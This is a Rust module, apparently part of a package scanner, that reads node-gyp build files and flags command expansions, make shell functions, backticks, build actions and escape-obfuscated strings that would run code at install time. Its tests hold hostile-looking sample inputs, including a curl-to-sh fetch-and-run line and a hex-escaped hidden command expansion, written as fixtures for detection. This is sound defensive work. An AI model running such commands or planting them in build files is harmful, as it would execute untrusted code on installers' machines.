//! Build files of node-gyp (`*.gyp`, `*.gypi`): whether anything but compilers runs.
//!
//! Reference: GYP's documentation, "Command Expansions" (`<!(…)`, `<!@(…)`) and "Actions". The files are Python
//! literals: adjacent strings are one string, and make and a shell read some of them afterwards.

use super::command::{self, Part};
use super::script::{Kind, Script, Token};

/// What a build file does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Gyp {
    /// It has compilers run, and asks modules for their headers at most.
    Plain,
    /// It runs another command; where, in bytes.
    Runs(usize),
    /// It has actions, or is written in a way that hides what is in it.
    Unclear,
}

/// Modules that print where their headers lie.
const HEADERS: [&str; 4] = ["node-addon-api", "nan", "napi-macros", "node-api-headers"];

/// Names in code that prints a version.
const VERSION_NAMES: [&str; 9] = [
    "arch", "modules", "node", "parseInt", "platform", "process", "split", "version", "versions",
];

/// Keys beneath which commands of the author's stand.
const ACTIONS: [&str; 6] = [
    "action",
    "actions",
    "rules",
    "postbuilds",
    "msvs_prebuild",
    "msvs_postbuild",
];

/// Reads a build file. O(bytes).
pub(super) fn read(source: &str) -> Gyp {
    let (strings, is_odd) = strings(source);
    if let Some((at, _)) = strings.iter().find(|(_, text)| runs(text)) {
        return Gyp::Runs(*at);
    }
    let is_unclear = |text: &str| {
        let text_without_lists = text.replace("<|(", "");
        ACTIONS.contains(&text) || text_without_lists.contains([';', '|', '&'])
    };
    if is_odd || strings.iter().any(|(_, text)| is_unclear(text)) {
        Gyp::Unclear
    } else {
        Gyp::Plain
    }
}

/// Says whether a string has gyp, make or a shell run a command that is not known.
fn runs(text: &str) -> bool {
    let marks = ["<!", ">!", "^!", "!(", "!@("];
    let plain = without_known(text);
    marks.iter().any(|mark| plain.contains(mark)) || plain.contains('`') || calls_make(&plain)
}

/// Takes the known command expansions out of a string.
fn without_known(text: &str) -> String {
    let mut kept = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("<!") {
        kept.push_str(&rest[..start]);
        let behind = &rest[start + 2..];
        let behind = behind.strip_prefix('@').unwrap_or(behind);
        match closed(behind).filter(|(command, _)| is_known(command)) {
            Some((_, after)) => rest = after,
            // One is enough, and the rest is not searched again and again.
            None => return kept + "<!",
        }
    }
    kept + rest
}

/// Splits `(…)…` behind the parenthesis that closes the first one.
fn closed(text: &str) -> Option<(&str, &str)> {
    let mut depth = 0usize;
    let inner = text.strip_prefix('(')?;
    for (at, c) in inner.char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return Some((&inner[..at], &inner[at + 1..])),
            ')' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// Says whether a command only prints where headers and libraries lie, or what the system is.
fn is_known(command: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, ' ' | '-' | '.' | '_' | '+');
    if command.starts_with("pkg-config ") {
        return command.chars().all(is_plain);
    }
    match &command::parts(command)[..] {
        [Part::Code(code)] => is_known_code(code),
        _ => false,
    }
}

/// Says whether code is `require('nan')`, `require('node-addon-api').include`, `process.arch` or the like.
///
/// What it prints is expanded by gyp again, so that it must not be able to print what it likes.
fn is_known_code(code: &str) -> bool {
    let script = Script::read(code);
    let is_headers = script.reads(0, &["require", "("])
        && script.get(Some(2)).is_some_and(|module| {
            module.kind == Kind::Text && HEADERS.contains(&module.text.as_str())
        })
        && script.reads(3, &[")"]);
    if is_headers {
        return is_member(&script.tokens[4..]);
    }
    !script.is_doubtful && !script.tokens.is_empty() && script.tokens.iter().all(is_of_version)
}

/// Says whether tokens are `.include` or the like, or none.
fn is_member(tokens: &[Token]) -> bool {
    tokens.chunks(2).all(|pair| match pair {
        [dot, name] => dot.is_sign(".") && name.kind == Kind::Name,
        [end] => end.is_sign(";"),
        _ => false,
    })
}

/// Says whether a token may stand in code that prints the version of Node or of the system, or a part of it.
fn is_of_version(token: &Token) -> bool {
    match token.kind {
        Kind::Name => VERSION_NAMES.contains(&token.text.as_str()),
        Kind::Text => matches!(token.text.as_str(), "." | "-"),
        Kind::Sign => matches!(token.text.as_str(), "." | "(" | ")" | "[" | "]" | ";"),
        Kind::Number => true,
        Kind::Expression => false,
    }
}

/// Says whether make would call a function: `$(…)` around more than a variable's name.
fn calls_make(text: &str) -> bool {
    let mut behind = text.split("$(").skip(1);
    behind.any(|rest| {
        let name = rest.split(')').next().unwrap_or_default();
        !name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'))
    })
}

/// Lists the strings of a Python literal, adjacent ones joined, with their places; and says whether one is odd: with
/// escapes that hide what it holds, a prefix, or no end.
fn strings(source: &str) -> (Vec<(usize, String)>, bool) {
    let mut strings: Vec<(usize, String)> = Vec::new();
    let mut is_odd = false;
    let mut is_adjacent = false;
    let mut characters = source.char_indices();
    while let Some((at, c)) = characters.next() {
        match c {
            '#' => drop(characters.by_ref().find(|(_, c)| *c == '\n')),
            '"' | '\'' => {
                let (text, is_plain) = string(&mut characters, c);
                is_odd |= !is_plain;
                match strings.last_mut().filter(|_| is_adjacent) {
                    Some((_, first)) => first.push_str(&text),
                    None => strings.push((at, text)),
                }
                is_adjacent = true;
            }
            '\\' => is_odd = true,
            _ if c.is_whitespace() => {}
            _ => {
                is_odd |= c.is_alphabetic() && is_prefix(&source[at..]);
                is_adjacent = false;
            }
        }
    }
    (strings, is_odd)
}

/// Says whether a letter stands directly in front of a string and changes how it is read.
fn is_prefix(from: &str) -> bool {
    from.chars()
        .nth(1)
        .is_some_and(|next| matches!(next, '"' | '\''))
}

/// Takes the rest of a string; it is plain if its escapes are those of quotes, line ends and the backslash.
fn string(characters: &mut std::str::CharIndices<'_>, quote: char) -> (String, bool) {
    let mut text = String::new();
    let mut is_plain = true;
    while let Some((_, c)) = characters.next() {
        match c {
            '\\' => match characters.next() {
                Some((_, escaped @ ('\'' | '"' | '\\'))) => text.push(escaped),
                Some((_, 'n')) => text.push('\n'),
                Some((_, '\n')) => {}
                _ => is_plain = false,
            },
            _ if c == quote => return (text, is_plain),
            _ => text.push(c),
        }
    }
    (text, false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compilers_and_headers_are_plain() {
        for source in [
            "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]} # <!(evil)",
            r#"{'include_dirs': ["<!(node -e \"require('nan')\")"]}"#,
            r#"{"include_dirs": ["<!@(node -p \"require('node-addon-api').include\")", "<(dir)/x"]}"#,
            r#"{'a': '<!(node -p "process.versions.node")', 'b': "<!(pkg-config --libs cairo)"}"#,
            r#"{'a%': "<!(node -p \"process.versions.node.split(\\\".\\\")[0]\")"}"#,
            r#"{'conditions': [['OS!="win"', {'cflags!': ['-O2'], 'x': '$(SDKROOT)'}]], 'y': '<|(list)'}"#,
        ] {
            assert_eq!(read(source), Gyp::Plain, "{source}");
        }
    }

    #[test]
    fn other_commands_are_told_with_their_place() {
        for string in [
            "'<!(curl a.example | sh)'",
            "'<!@(node x.js)'",
            "'>!(node x.js)'",
            "'<' '!(node x.js)'",
            r#"'<!(node -e "require(\'./x\')")'"#,
            r#"'<!(node -p "require(\'nan\').x(1)")'"#,
            r#"'<!(node -p "require(\'nan\')") <!(x)'"#,
            r#"'<!(node -p "process.title")'"#,
            r#"'<!(node -p "\'<\'+\'!(x)\'")'"#,
            "'<!pymod_do_main(x)'",
            "'<(a)!(x)'",
            "'<!(pkg-config --libs $(x))'",
            "'$(shell x)'",
            "'`x`'",
            "'<!(open'",
        ] {
            let source = format!("{{'a': {string}}}");
            assert_eq!(read(&source), Gyp::Runs(6), "{source}");
        }
    }

    #[test]
    fn actions_and_hidden_text_are_unclear() {
        for source in [
            "{'actions': [{'action': ['node', 'x.js']}]}",
            "{'postbuilds': []}",
            r"{'a': '\x3c\x21(x)'}",
            "{'a': r'x'}",
            "{'a': 'open",
            "{'cflags': ['; x']}",
        ] {
            assert_eq!(read(source), Gyp::Unclear, "{source}");
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::test_runner::Config { failure_persistence: None, ..proptest::test_runner::Config::default() })]

        #[test]
        fn arbitrary_text_never_panics(source in "[a-z'\"<>!@\\(\\)$`\\\\#\n {}:ä]{0,60}") {
            let _ = read(&source);
        }
    }
}
